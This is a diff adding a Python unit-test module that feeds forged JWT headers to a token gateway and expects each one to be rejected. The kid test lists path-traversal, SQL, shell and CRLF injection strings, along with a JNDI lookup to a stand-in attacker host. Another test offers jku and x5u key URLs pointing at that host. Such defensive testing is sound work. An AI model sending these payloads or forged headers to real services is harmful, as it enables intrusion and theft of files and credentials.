@@ -1,0 +1,89 @@
+"""Headers that try to choose the key, bring one along, or change how the token is read."""
+
+from __future__ import annotations
+
+from base64 import b64encode
+from typing import TYPE_CHECKING
+
+from tests.unit.gateway_tokens.attack import BAD_SIGNATURE, TOO_LONG, UNKNOWN_KEY, Attack, headed
+from tests.unit.gateway_tokens.forge import ALGORITHMS, Signer, good_claims, token
+
+if TYPE_CHECKING:
+    from collections.abc import Iterator
+
+
+def key_ids() -> Iterator[Attack]:
+    for kid in (
+        "../../../../dev/null",
+        "/etc/passwd",
+        "file:///dev/null",
+        "https://attacker.example/jwks.json",
+        "' UNION SELECT 'key' --",
+        '"; DROP TABLE data_exhaust_users; --',
+        "| cat /etc/passwd",
+        "$(id)",
+        "${jndi:ldap://attacker.example}",
+        "\x00",
+        "EdDSA-1\x00",
+        "EdDSA-1 ",
+        "eddsa-1",
+        "RS256-1",
+        "EdDSA-1\r\nX-Injected: yes",
+        "__class__",
+        "k" * 128,
+    ):
+        yield headed(f"kid {kid[:40]!r}", UNKNOWN_KEY, kid=kid)
+    for value in (None, 0, 1.5, True, [], ["EdDSA-1"], {}, {"EdDSA-1": 1}):
+        yield headed(f"kid {value!r}", "kid: string_type", kid=value)
+    yield headed("kid of nothing", "kid: string_too_short", kid="")
+    yield headed("kid of 129 characters", "kid: string_too_long", kid="k" * 129)
+    yield headed("kid of 4 kB", "kid: string_too_long", kid="k" * 4096)
+    yield headed("kid of 10 kB", TOO_LONG, kid="k" * 10_240)
+    yield headed("kid that is no character", "kid: string_unicode", kid="\ud800")
+    yield Attack(
+        "kid names an empty file, signed with nothing",
+        BAD_SIGNATURE,
+        lambda world: token(world.header("HS256", kid="/dev/null"), good_claims("HS256"), Signer("HS256", b"")),
+    )
+
+
+def own_keys() -> Iterator[Attack]:
+    """The attacker's key, offered in the header; and the same headers in a token that is rightly signed."""
+    for algorithm in ALGORITHMS[:3]:
+        for name in ("jku", "x5u", "jwk", "x5c"):
+            for whose in ("attackers", "signers"):
+                yield Attack(
+                    f"{name}, {algorithm}, signed by the {whose[:-1]}",
+                    f"header has {name}",
+                    lambda world, a=algorithm, n=name, w=whose: token(
+                        world.header(a, kid="mine", **{n: offered(n, world.attackers[a])}),
+                        good_claims(a),
+                        getattr(world, w)[a],
+                    ),
+                )
+
+
+def offered(name: str, signer: Signer) -> object:
+    return {
+        "jku": "https://attacker.example/jwks.json",
+        "x5u": "https://attacker.example/chain.pem",
+        "jwk": {**signer.jwk, "kid": "mine"},
+        "x5c": [b64encode(signer.pem).decode()],
+    }[name]
+
+
+def other_readings() -> Iterator[Attack]:
+    """The right key, but a header that asks for another reading of the token."""
+    for crit in (["exp"], ["b64"], ["unknown"], [], "exp", None, [1], {"exp": 1}):
+        yield headed(f"crit {crit!r}", "header has crit", crit=crit)
+    yield headed("b64 false, critical", "header has b64, crit", b64=False, crit=["b64"])
+    for b64 in (False, True, None, "false"):
+        yield headed(f"b64 {b64!r}", "header has b64", b64=b64)
+    yield headed("compressed", "header has zip", zip="DEF")
+    yield headed("encrypted", "header has enc", enc="A256GCM")
+    for cty in ("JWT", "jwt", "application/jwt"):
+        yield headed(f"cty {cty}", "header has cty", cty=cty)
+    for typ in ("jwt", "Jwt", "JWT ", "JWT\x00", "JOSE", "JWE", "application/jwt", "dpop+jwt", "logout+jwt", "AT+JWT"):
+        yield headed(f"typ {typ!r}", "typ: literal_error", typ=typ)
+    for value in (None, "", 1, True, ["JWT"], {"JWT": 1}):
+        yield headed(f"typ {value!r}", "typ: literal_error", typ=value)
